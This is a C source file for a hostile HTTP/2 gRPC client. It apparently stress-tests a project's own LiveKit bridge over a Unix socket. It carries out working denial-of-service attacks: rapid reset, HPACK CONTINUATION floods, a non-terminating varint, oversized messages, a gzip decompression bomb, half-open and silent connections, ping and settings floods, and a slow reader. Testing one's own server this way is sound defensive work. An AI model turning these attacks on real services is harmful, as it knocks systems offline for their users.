// SPDX-License-Identifier: ISC
//
// grpc_attack.c - a hostile gRPC client: grpc-attack SOCKET ATTACK SECONDS [USER]. Says in one line of JSON what became of it.
//
// HTTP/2 is spoken by hand here, since no client library does what these attacks do. Every attack goes on for its time; a
// connection that the server cuts is followed by the next one.
//
// Runs on: a process of its own.

#include <poll.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
#include <zlib.h>

#include "dataplane/base.h"

#define BRIDGE "/mentra.livekit.bridge.LiveKitBridge/"
#define FRAME_HEAD 9
#define HALF_OPEN 300
#define SILENT_STREAMS 5000u
#define BIG_MESSAGE (10u << 20)
#define BOMB_BYTES 48000000u
#define PIECE_BYTES ((size_t)16000) // of a message in one frame

enum frame { DATA = 0, HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, WINDOW_UPDATE = 8, CONTINUATION = 9 };
enum flag { END_STREAM = 1, END_HEADERS = 4 };

static const char *socket_path, *user_id = "nobody";
static uint64_t until_ns;
static unsigned long connections, refused, cut, calls;
static uint32_t noise = 1;

static uint32_t random_word(void)
{
	noise = noise * 1664525u + 1013904223u;
	return noise >> 8 ^ noise << 16;
}

static bool time_left(void)
{
	return clock_mono_ns() < until_ns;
}

// ---- a connection

static int dial(void)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	snprintf(address.sun_path, sizeof(address.sun_path), "%s", socket_path);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof(address)) != 0) {
		close(fd);
		fd = -1;
	}
	if (fd < 0)
		refused++;
	else
		connections++;
	return fd;
}

// False when the server has cut the connection or takes nothing until the time is up.
static bool say(int fd, const void *data, size_t bytes)
{
	const uint8_t *at = data;
	while (bytes > 0) {
		ssize_t n = send(fd, at, bytes, MSG_NOSIGNAL | MSG_DONTWAIT);
		if (n < 0 && errno != EAGAIN)
			return false;
		if (n < 0 && !time_left())
			return false;
		if (n < 0) {
			struct pollfd ready = {.fd = fd, .events = POLLOUT};
			poll(&ready, 1, 50);
			continue;
		}
		at += n;
		bytes -= (size_t)n;
	}
	return true;
}

static bool frame(int fd, enum frame type, uint8_t flags, uint32_t stream, const void *data, size_t bytes)
{
	uint8_t head[FRAME_HEAD] = {(uint8_t)(bytes >> 16), (uint8_t)(bytes >> 8), (uint8_t)bytes, (uint8_t)type, flags};
	put_be32(head + 5, stream);
	return say(fd, head, sizeof(head)) && (bytes == 0 || say(fd, data, bytes));
}

static bool greet(int fd)
{
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
	return say(fd, preface, sizeof(preface) - 1) && frame(fd, SETTINGS, 0, 0, NULL, 0);
}

// What has come; false at the end of the connection.
static bool swallow(int fd)
{
	static uint8_t sink[65536];
	for (;;) {
		ssize_t n = recv(fd, sink, sizeof(sink), MSG_DONTWAIT);
		if (n <= 0)
			return n < 0 && errno == EAGAIN;
	}
}

static void hang_up(int fd, bool by_server)
{
	cut += by_server;
	close(fd);
}

// Waits until the server ends the connection or the time is up.
static void linger(int fd)
{
	struct pollfd ready = {.fd = fd, .events = POLLIN};
	bool open = true;
	while (open && time_left()) {
		poll(&ready, 1, 20);
		open = swallow(fd);
	}
	hang_up(fd, !open);
}

// The header block of a call, without indexing or Huffman codes. Returns its length.
static size_t block_write(uint8_t *out, const char *method, bool gzip)
{
	static const char encoding[] = "\x00\x0d" "grpc-encoding" "\x04" "gzip";
	static const char rest[] = "\x01\x01h"                       // :authority h
				   "\x0f\x10\x10" "application/grpc" // content-type
				   "\x00\x02" "te" "\x08" "trailers";
	size_t n = 0, length = sizeof(BRIDGE) - 1 + strlen(method);
	out[n++] = 0x83; // :method POST
	out[n++] = 0x86; // :scheme http
	out[n++] = 0x04; // :path, literal, not indexed
	out[n++] = (uint8_t)length;
	n += (size_t)sprintf((char *)out + n, BRIDGE "%s", method);
	memcpy(out + n, rest, sizeof(rest) - 1);
	n += sizeof(rest) - 1;
	if (gzip)
		memcpy(out + n, encoding, sizeof(encoding) - 1);
	return n + (gzip ? sizeof(encoding) - 1 : 0);
}

static bool call_encoded(int fd, uint32_t stream, const char *method, bool gzip)
{
	uint8_t block[256];
	calls++;
	return frame(fd, HEADERS, END_HEADERS, stream, block, block_write(block, method, gzip));
}

static bool call(int fd, uint32_t stream, const char *method)
{
	return call_encoded(fd, stream, method, false);
}

// ---- the attacks: one connection each; repeated while there is time

static void rapid_reset(int fd)
{
	static const uint8_t cancel[4] = {0, 0, 0, 8};
	bool open = greet(fd);
	for (uint32_t id = 1; open && time_left() && id < 1u << 30; id += 2)
		open = call(fd, id, "GetStatus") && frame(fd, RST_STREAM, 0, id, cancel, sizeof(cancel)) && swallow(fd);
	hang_up(fd, !open);
}

// One header string in thousands of small pieces: each costs the parser a copy of all before it.
static void hpack_burn(int fd)
{
	static const uint8_t begin[] = {0x00, 0x01, 'x', 0x7f, 0x81, 0xff, 0xff, 0x7f}; // a value of hundreds of megabytes
	uint8_t piece[16];
	memset(piece, 'a', sizeof(piece));
	bool open = greet(fd) && frame(fd, HEADERS, 0, 1, begin, sizeof(begin));
	for (unsigned i = 0; open && time_left() && i < 20000; i++)
		open = frame(fd, CONTINUATION, 0, 1, piece, sizeof(piece)) && swallow(fd);
	calls++;
	hang_up(fd, !open);
}

// An integer that does not end.
static void hpack_varint(int fd)
{
	static const uint8_t begin[] = {0x00, 0x7f};
	uint8_t piece[100];
	memset(piece, 0x80, sizeof(piece));
	bool open = greet(fd) && frame(fd, HEADERS, 0, 1, begin, sizeof(begin));
	for (unsigned i = 0; open && time_left() && i < 4000; i++)
		open = frame(fd, CONTINUATION, 0, 1, piece, sizeof(piece)) && swallow(fd);
	calls++;
	hang_up(fd, !open);
}

// A message of 10 MB on every kind of call, as much of it as the server lets in.
static void big_messages(int fd)
{
	static const char *const methods[] = {"JoinRoom", "StreamAudio", "GetStatus"};
	static uint8_t piece[16000];
	uint8_t head[5] = {0};
	put_be32(head + 1, BIG_MESSAGE);
	bool open = greet(fd);
	// The connection's window is 64 KiB; what the server gives back is not asked for: the next connection has a new one.
	for (uint32_t i = 0; open && time_left() && i < 4; i++) {
		open = call(fd, 2 * i + 1, methods[i % ARRAY_SIZE(methods)]) && frame(fd, DATA, 0, 2 * i + 1, head, sizeof(head)) &&
		       frame(fd, DATA, 0, 2 * i + 1, piece, sizeof(piece)) && swallow(fd);
	}
	hang_up(fd, !open);
}

// 48 MB of zeros in a message that fits into the first window of a connection. Returns its length.
static size_t bomb_write(uint8_t *out, size_t size)
{
	static const uint8_t zeros[16000];
	z_stream z = {.next_out = out + 5, .avail_out = (uInt)size - 5};
	deflateInit2(&z, Z_BEST_COMPRESSION, Z_DEFLATED, MAX_WBITS + 16, 8, Z_DEFAULT_STRATEGY);
	for (unsigned i = 1; i <= BOMB_BYTES / sizeof(zeros); i++) {
		z.next_in = (Bytef *)(uintptr_t)zeros;
		z.avail_in = sizeof(zeros);
		deflate(&z, i == BOMB_BYTES / sizeof(zeros) ? Z_FINISH : Z_NO_FLUSH);
	}
	deflateEnd(&z);
	out[0] = 1; // compressed
	put_be32(out + 1, (uint32_t)z.total_out);
	return 5 + z.total_out;
}

// A message that is small until it is decompressed, on every kind of call.
static void gzip_bomb(int fd)
{
	static const char *const methods[] = {"JoinRoom", "StreamAudio", "GetStatus"};
	static uint8_t message[60000];
	static size_t length;
	if (length == 0)
		length = bomb_write(message, sizeof(message));
	bool open = greet(fd) && call_encoded(fd, 1, methods[calls % ARRAY_SIZE(methods)], true);
	for (size_t at = 0, piece; open && at < length; at += piece) {
		piece = MIN_OF(length - at, PIECE_BYTES);
		open = frame(fd, DATA, 0, 1, message + at, piece);
	}
	for (unsigned i = 0; open && time_left() && i < 5; i++) { // else the server would see us gone before it looks at it
		usleep(10000);
		open = swallow(fd);
	}
	hang_up(fd, !open);
}

// Calls that are opened and never say what they want.
static void silent_streams(int fd)
{
	bool open = greet(fd);
	for (uint32_t i = 0; open && time_left() && i < SILENT_STREAMS; i++)
		open = call(fd, 2 * i + 1, "StreamAudio") && swallow(fd);
	linger(fd);
}

// Connections that say nothing, or only hello, or half a frame.
static void half_open(int fd)
{
	static int fds[HALF_OPEN];
	unsigned count = 0, closed = 0;
	for (fds[count++] = fd; count < HALF_OPEN && (fds[count] = dial()) >= 0; count++)
		continue;
	for (unsigned i = 0; i < count; i++) {
		if (i % 3 > 0 && greet(fds[i]) && i % 3 > 1)
			say(fds[i], "\0\0\x10\1", 4);
	}
	while (time_left())
		usleep(20000);
	for (unsigned i = 0; i < count; i++) {
		closed += !swallow(fds[i]);
		close(fds[i]);
	}
	cut += closed;
}

static void ping_flood(int fd)
{
	static const uint8_t opaque[8];
	bool open = greet(fd);
	while (open && time_left())
		open = frame(fd, PING, 0, 0, opaque, sizeof(opaque));
	hang_up(fd, !open);
}

static void settings_flood(int fd)
{
	static const uint8_t table_size[6] = {0, 1, 0, 0, 16, 0};
	bool open = greet(fd);
	while (open && time_left())
		open = frame(fd, SETTINGS, 0, 0, table_size, sizeof(table_size));
	hang_up(fd, !open);
}

static void garbage(int fd)
{
	uint8_t bytes[256];
	bool open = random_word() % 2 == 0 || greet(fd);
	for (unsigned i = 0; open && i < 8; i++) {
		for (unsigned k = 0; k < sizeof(bytes); k += 4)
			put_be32(bytes + k, random_word());
		size_t length = random_word() % sizeof(bytes);
		open = random_word() % 2 ? say(fd, bytes, length)
					 : frame(fd, (enum frame)(random_word() % 10), (uint8_t)random_word(), random_word() % 8, bytes, length);
	}
	calls++;
	hang_up(fd, !open || !swallow(fd));
}

// StreamAudio of somebody who speaks, and then not a byte is read.
static void slow_reader(int fd)
{
	uint8_t message[300] = {0, 0, 0, 0, 0, 5 << 3 | 2};
	size_t length = strlen(user_id);
	put_be32(message + 1, (uint32_t)(2 + length));
	message[6] = (uint8_t)length;
	memcpy(message + 7, user_id, length);
	bool open = greet(fd) && call(fd, 1, "StreamAudio") && frame(fd, DATA, 0, 1, message, 7 + length);
	while (open && time_left())
		usleep(20000);
	hang_up(fd, !open || !swallow(fd));
}

static const struct {
	const char *name;
	void (*run)(int fd);
} attacks[] = {
	{"rapid-reset", rapid_reset},
	{"hpack-burn", hpack_burn},
	{"hpack-varint", hpack_varint},
	{"big-messages", big_messages},
	{"gzip-bomb", gzip_bomb},
	{"silent-streams", silent_streams},
	{"half-open", half_open},
	{"ping-flood", ping_flood},
	{"settings-flood", settings_flood},
	{"garbage", garbage},
	{"slow-reader", slow_reader},
};

int main(int argc, char **argv)
{
	void (*run)(int fd) = NULL;
	for (size_t i = 0; argc >= 4 && i < ARRAY_SIZE(attacks); i++)
		if (strcmp(attacks[i].name, argv[2]) == 0)
			run = attacks[i].run;
	if (run == NULL || (argc > 4 && strlen(argv[4]) > 127)) {
		fprintf(stderr, "usage: grpc-attack SOCKET ATTACK SECONDS [USER]\nattacks:");
		for (size_t i = 0; i < ARRAY_SIZE(attacks); i++)
			fprintf(stderr, " %s", attacks[i].name);
		fprintf(stderr, "\n");
		return 2;
	}
	socket_path = argv[1];
	if (argc > 4)
		user_id = argv[4];
	until_ns = clock_mono_ns() + (uint64_t)(strtod(argv[3], NULL) * 1e9);
	while (time_left()) {
		int fd = dial();
		if (fd >= 0)
			run(fd);
		else
			usleep(10000);
	}
	printf("{\"connections\":%lu,\"refused\":%lu,\"cut\":%lu,\"calls\":%lu}\n", connections, refused, cut, calls);
	return 0;
}
